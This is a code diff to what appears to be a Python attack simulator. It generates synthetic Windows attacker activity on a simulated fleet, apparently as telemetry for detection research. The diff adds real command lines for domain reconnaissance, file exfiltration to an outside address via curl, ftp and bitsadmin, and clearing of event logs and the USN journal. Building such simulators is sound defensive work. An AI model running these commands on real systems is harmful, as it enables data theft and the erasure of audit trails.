@@ -7,10 +7,11 @@ works: payloads are sentences, addresses are documentation ranges.
 """
 
 import base64
+import itertools
 import random
-from collections.abc import Callable, Sequence
+from collections.abc import Callable, Iterator, Sequence
 from dataclasses import dataclass
-from typing import Final
+from typing import Final, TypeVar
 
 from processor.study.simulate.catalog import EXPLORER, SERVICES
 from processor.study.simulate.fleet import DOMAIN, Host, outside_address
@@ -83,6 +84,7 @@ class Intruder:
 
 
 Step = Callable[[Intruder], Routine]
+_Thing = TypeVar("_Thing")
 
 
 def macro(i: Intruder) -> Routine:
@@ -119,12 +121,29 @@ def masquerade(i: Intruder) -> Routine:
 
 
 def discovery(i: Intruder) -> Routine:
-    """Who and where am I."""
-    yield i.run(rf"{_SYS32}\whoami.exe", "whoami  /all")
-    yield i.run(rf"{_SYS32}\net.exe", 'net  group "Domain Admins" /domain')
-    yield i.run(
-        rf"{_SYS32}\nltest.exe", f"nltest  /domain_trusts /all_trusts /server:{i.target.machine.netbios}"
+    """Who and where am I: one of three habits."""
+    habits = (
+        (
+            ("whoami.exe", "whoami  /all"),
+            ("net.exe", 'net  group "Domain Admins" /domain'),
+            ("nltest.exe", f"nltest  /domain_trusts /all_trusts /server:{i.target.machine.netbios}"),
+        ),
+        (
+            ("systeminfo.exe", "systeminfo"),
+            ("quser.exe", f"quser  /server:{i.target.machine.netbios}"),
+            ("net.exe", f"net  view \\\\{i.target.machine.name} /all"),
+        ),
+        (
+            ("tasklist.exe", "tasklist  /svc"),
+            ("ARP.EXE", "arp  -a"),
+            (
+                "wbem\\WMIC.exe",
+                r"wmic  /namespace:\\root\SecurityCenter2 path AntiVirusProduct get displayName",
+            ),
+        ),
     )
+    for program, line in i.rng.choice(habits):
+        yield i.run(rf"{_SYS32}\{program}", line)
 
 
 def scheduled_persistence(i: Intruder) -> Routine:
@@ -252,17 +271,39 @@ def collect(i: Intruder) -> Routine:
 
 
 def exfiltrate(i: Intruder) -> Routine:
-    """The archive leaves."""
-    yield i.run(
-        rf"{_SYS32}\curl.exe",
-        rf"curl.exe -s -k -T C:\Users\Public\{i.name(2)}.dat https://{i.outside}/upload/{i.name(4)}",
+    """The archive leaves: one of three ways."""
+    archive = rf"C:\Users\Public\{i.name(2)}.dat"
+    program, line = i.rng.choice(
+        (
+            ("curl.exe", f"curl.exe -s -k -T {archive} https://{i.outside}/upload/{i.name(4)}"),
+            ("ftp.exe", rf"ftp.exe -n -s:{i.home}\{i.name(2)}.txt {i.outside}"),
+            (
+                "bitsadmin.exe",
+                f"bitsadmin.exe /transfer {i.name(2)} /upload https://{i.outside}/{i.name(3)} {archive}",
+            ),
+        )
     )
+    yield i.run(rf"{_SYS32}\{program}", line)
 
 
 def clear_logs(i: Intruder) -> Routine:
-    """The traces go."""
-    for log in ("Security", "System"):
-        yield i.run(rf"{_SYS32}\wevtutil.exe", f"wevtutil.exe cl {log}")
+    """The traces go: one of three ways."""
+    journal = i.rng.choice("CDE")
+    ways = (
+        (
+            (rf"{_SYS32}\wevtutil.exe", "wevtutil.exe cl Security"),
+            (rf"{_SYS32}\wevtutil.exe", "wevtutil.exe cl System"),
+        ),
+        (
+            (
+                _POWERSHELL,
+                "powershell.exe -nop -c Get-EventLog -List | ForEach-Object { Clear-EventLog $_.Log }",
+            ),
+        ),
+        ((rf"{_SYS32}\fsutil.exe", f"fsutil.exe usn deletejournal /d {journal}:"),),
+    )
+    for program, line in i.rng.choice(ways):
+        yield i.run(program, line)
 
 
 def destroy(i: Intruder) -> Routine:
@@ -278,28 +319,26 @@ PLANS: Final[tuple[tuple[Step, ...], ...]] = (
     (password_guessing, remote_desktop, look_alike_account, blind_the_guard, dump_hives, destroy),
     (script_host, transfer_job, registry_persistence, dumping_tool, remote_process, collect, exfiltrate),
     (macro, masquerade, scheduled_persistence, discovery, collect, exfiltrate, clear_logs),
+    (script_host, masquerade, discovery, dumping_tool, look_alike_account, remote_service, destroy),
 )
 
 
 def campaign(world: World, fleet: Sequence[Host], quiet: int) -> Routine:
-    """One attack after another, the first after `quiet` ms, one every two to six hours; some overlap."""
+    """One attack after another, the first after `quiet` ms, one every four to eight hours; some overlap.
+
+    The next attack comes another way and to another host, until all ways and all hosts had their turn.
+    """
     rng = world.random("campaign")
+    ways, hosts = _turns(PLANS, rng), _turns([host for host in fleet if host.users] or fleet, rng)
     yield quiet
-    number = 0
-    order: list[tuple[Step, ...]] = []
-    while True:
-        if not order:
-            order = rng.sample(PLANS, len(PLANS))
-        number += 1
-        world.spawn(attack(world, fleet, number, order.pop()))
-        yield rng.randrange(2 * HOUR, 6 * HOUR)
+    for number in itertools.count(1):
+        world.spawn(attack(world, fleet, number, next(hosts), next(ways)))
+        yield rng.randrange(4 * HOUR, 8 * HOUR)
 
 
-def attack(world: World, fleet: Sequence[Host], number: int, plan: Sequence[Step]) -> Routine:
-    """Attack `number`: the steps of `plan`, minutes to an hour apart."""
+def attack(world: World, fleet: Sequence[Host], number: int, host: Host, plan: Sequence[Step]) -> Routine:
+    """Attack `number`, on `host`: the steps of `plan`, minutes to an hour apart."""
     rng = world.random(f"attack/{number}")
-    peopled = [host for host in fleet if host.users]
-    host = rng.choice(peopled or fleet)
     target = rng.choice([other for other in fleet if other is not host] or [host])
     session = host.session(rng.choice(host.users)) if host.users else host.machine.system
     intruder = Intruder(f"attack-{number:03d}", host, target, session, rng, outside_address(rng))
@@ -307,3 +346,9 @@ def attack(world: World, fleet: Sequence[Host], number: int, plan: Sequence[Step
         intruder.stage = step.__name__
         yield from step(intruder)
         yield round(rng.uniform(5, 60) * MINUTE)
+
+
+def _turns(things: Sequence[_Thing], rng: random.Random) -> Iterator[_Thing]:
+    """Each of `things` once in random order, and again, without end."""
+    while True:
+        yield from rng.sample(things, len(things))
